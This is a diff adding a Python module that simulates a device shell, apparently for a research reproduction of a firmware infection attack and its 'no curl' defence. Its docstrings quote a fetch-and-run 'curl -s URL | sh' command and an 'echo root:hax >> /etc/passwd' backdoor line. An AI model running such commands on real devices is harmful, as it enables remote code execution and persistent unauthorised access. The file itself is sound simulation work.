@@ -1,0 +1,254 @@
+"""``/bin/sh`` and friends: the victim userland the infection rides on.
+
+The ROP chain's ``execlp("sh", "sh", "-c", "curl -s URL | sh")`` needs a
+shell with pipelines and a ``curl``; the downloaded infection script then
+needs ``chmod`` and background execution (``&``).  The paper's "useful
+insights" section even calls out that the attack lives off ``curl``
+("firmware vendors may choose not to allow or install the curl command"),
+so shells can be built *without* curl to model that defense — see
+:func:`make_shell_program`'s ``allow_curl`` switch and the corresponding
+ablation benchmark.
+
+Supported syntax: one command per line, ``|`` pipelines, trailing ``&``
+for background, ``#`` comments, ``$VAR`` expansion (from the container
+env plus the built-in ``$ARCH``).  Built-ins: ``curl``, ``chmod``,
+``rm``, ``echo``, ``sleep``, ``uname``, ``sh``.  Anything else resolves
+as an executable path in the container filesystem.
+"""
+
+from __future__ import annotations
+
+import re
+import shlex
+from typing import List, Optional
+
+from repro.netsim.address import AddressError, Ipv4Address, Ipv6Address
+from repro.services.http import HttpError, http_get
+
+_URL_RE = re.compile(r"^http://(\[[^\]]+\]|[^/:]+)(?::(\d+))?(/.*)?$")
+_VAR_RE = re.compile(r"\$(\w+)")
+
+
+class ShellError(RuntimeError):
+    """A command failed; the shell aborts the script (set -e semantics)."""
+
+
+def parse_url(url: str):
+    """Split ``http://host[:port]/path`` into (address, port, path)."""
+    match = _URL_RE.match(url)
+    if match is None:
+        raise ShellError(f"curl: malformed URL {url!r}")
+    host, port_text, path = match.groups()
+    host = host.strip("[]")
+    try:
+        address = Ipv6Address.parse(host) if ":" in host else Ipv4Address.parse(host)
+    except AddressError as error:
+        raise ShellError(f"curl: cannot resolve {host!r}: {error}") from None
+    return address, int(port_text) if port_text else 80, path or "/"
+
+
+def expand_variables(text: str, ctx) -> str:
+    """Expand ``$VAR`` from the container env (plus ``$ARCH``)."""
+    values = dict(ctx.container.env)
+    values.setdefault("ARCH", ctx.container.image.architecture)
+
+    def replace(match: re.Match) -> str:
+        return values.get(match.group(1), "")
+
+    return _VAR_RE.sub(replace, text)
+
+
+def run_script(ctx, text: str, allow_curl: bool = True):
+    """Generator: run a multi-line script; returns final stdout bytes."""
+    stdout = b""
+    for raw_line in text.splitlines():
+        line = raw_line.strip()
+        if not line or line.startswith("#"):
+            continue
+        stdout = yield from run_pipeline(ctx, line, allow_curl=allow_curl)
+    return stdout
+
+
+def run_pipeline(ctx, line: str, allow_curl: bool = True):
+    """Generator: run one (possibly piped, possibly backgrounded) line.
+
+    Supports trailing output redirection (``>`` truncate / ``>>`` append)
+    on the final stage — the infection scripts use it to plant backdoor
+    credentials (``echo root:hax >> /etc/passwd``).
+    """
+    background = line.endswith("&")
+    if background:
+        line = line[:-1].rstrip()
+    stages = [stage.strip() for stage in line.split("|")]
+    stdin = b""
+    redirect_path = None
+    redirect_append = False
+    for index, stage in enumerate(stages):
+        argv = shlex.split(expand_variables(stage, ctx))
+        if not argv:
+            raise ShellError(f"empty pipeline stage in {line!r}")
+        last = index == len(stages) - 1
+        if last and len(argv) >= 2 and argv[-2] in (">", ">>"):
+            redirect_append = argv[-2] == ">>"
+            redirect_path = argv[-1]
+            argv = argv[:-2]
+            if not argv:
+                raise ShellError(f"redirection without a command in {line!r}")
+        stdin = yield from run_command(
+            ctx,
+            argv,
+            stdin,
+            background=background and last,
+            allow_curl=allow_curl,
+        )
+    if redirect_path is not None:
+        if redirect_append:
+            ctx.fs.append(redirect_path, stdin)
+        else:
+            ctx.fs.write_file(redirect_path, stdin, mtime=ctx.sim.now)
+        return b""
+    return stdin
+
+
+def run_command(ctx, argv: List[str], stdin: bytes, background: bool = False,
+                allow_curl: bool = True):
+    """Generator: dispatch one command; returns its stdout bytes."""
+    name = argv[0].rsplit("/", 1)[-1]
+    if name == "curl":
+        if not allow_curl:
+            raise ShellError("curl: not found")  # the vendor-hardened image
+        return (yield from _builtin_curl(ctx, argv[1:]))
+    if name == "chmod":
+        return _builtin_chmod(ctx, argv[1:])
+    if name == "rm":
+        return _builtin_rm(ctx, argv[1:])
+    if name == "echo":
+        return (" ".join(argv[1:]) + "\n").encode()
+    if name == "uname":
+        return (ctx.container.image.architecture + "\n").encode()
+    if name == "sleep":
+        yield ctx.sleep(float(argv[1]) if len(argv) > 1 else 1.0)
+        return b""
+    if name == "sh":
+        return (yield from _builtin_sh(ctx, argv[1:], stdin, allow_curl))
+    # Not a builtin: execute a container binary.
+    return (yield from _exec_binary(ctx, argv, background))
+
+
+# ----------------------------------------------------------------------
+# Built-ins
+# ----------------------------------------------------------------------
+def _builtin_curl(ctx, args: List[str]):
+    silent = False
+    output: Optional[str] = None
+    url: Optional[str] = None
+    index = 0
+    while index < len(args):
+        arg = args[index]
+        if arg == "-s":
+            silent = True
+        elif arg == "-o":
+            index += 1
+            if index >= len(args):
+                raise ShellError("curl: -o needs a file")
+            output = args[index]
+        elif arg.startswith("-"):
+            raise ShellError(f"curl: unsupported option {arg!r}")
+        else:
+            url = arg
+        index += 1
+    if url is None:
+        raise ShellError("curl: no URL")
+    if ctx.netns is None:
+        raise ShellError("curl: network is unreachable")
+    address, port, path = parse_url(url)
+    try:
+        response = yield from http_get(ctx.netns, address, port, path)
+    except (HttpError, ConnectionError, OSError) as error:
+        raise ShellError(f"curl: {error}") from None
+    if not response.ok:
+        if silent:
+            return b""
+        raise ShellError(f"curl: HTTP {response.status}")
+    if output is not None:
+        ctx.fs.write_file(output, response.body, mode=0o644, mtime=ctx.sim.now)
+        return b""
+    return response.body
+
+
+def _builtin_chmod(ctx, args: List[str]) -> bytes:
+    if len(args) != 2:
+        raise ShellError("chmod: usage: chmod MODE FILE")
+    mode_text, path = args
+    try:
+        entry = ctx.fs.entry(path)
+    except OSError as error:
+        raise ShellError(f"chmod: {error}") from None
+    if mode_text == "+x":
+        entry.mode |= 0o111
+    else:
+        try:
+            entry.mode = int(mode_text, 8)
+        except ValueError:
+            raise ShellError(f"chmod: bad mode {mode_text!r}") from None
+    return b""
+
+
+def _builtin_rm(ctx, args: List[str]) -> bytes:
+    force = False
+    paths = []
+    for arg in args:
+        if arg == "-f":
+            force = True
+        else:
+            paths.append(arg)
+    for path in paths:
+        try:
+            ctx.fs.remove(path)
+        except OSError:
+            if not force:
+                raise ShellError(f"rm: cannot remove {path!r}") from None
+    return b""
+
+
+def _builtin_sh(ctx, args: List[str], stdin: bytes, allow_curl: bool):
+    if len(args) >= 2 and args[0] == "-c":
+        return (yield from run_script(ctx, args[1], allow_curl=allow_curl))
+    if args and not args[0].startswith("-"):
+        script = ctx.fs.read_file(args[0]).decode("utf-8", "replace")
+        return (yield from run_script(ctx, script, allow_curl=allow_curl))
+    # No args: interpret stdin as a script (the `curl ... | sh` case).
+    return (yield from run_script(ctx, stdin.decode("utf-8", "replace"),
+                                  allow_curl=allow_curl))
+
+
+def _exec_binary(ctx, argv: List[str], background: bool):
+    try:
+        process = ctx.spawn(argv)
+    except Exception as error:  # noqa: BLE001 - surface as shell error
+        raise ShellError(f"sh: {argv[0]}: {error}") from None
+    if background:
+        return b""
+    result = yield process.future
+    if isinstance(result, bytes):
+        return result
+    return b""
+
+
+def make_shell_program(allow_curl: bool = True):
+    """Program factory for ``/bin/sh`` image files.
+
+    ``allow_curl=False`` builds the vendor-hardened shell the paper's
+    insight suggests (no download tool on the device).
+    """
+
+    def sh(ctx):
+        argv = ctx.argv
+        if len(argv) >= 3 and argv[1] == "-c":
+            return (yield from run_script(ctx, argv[2], allow_curl=allow_curl))
+        if len(argv) >= 2:
+            script = ctx.fs.read_file(argv[1]).decode("utf-8", "replace")
+            return (yield from run_script(ctx, script, allow_curl=allow_curl))
+        return b""
+
+    return sh
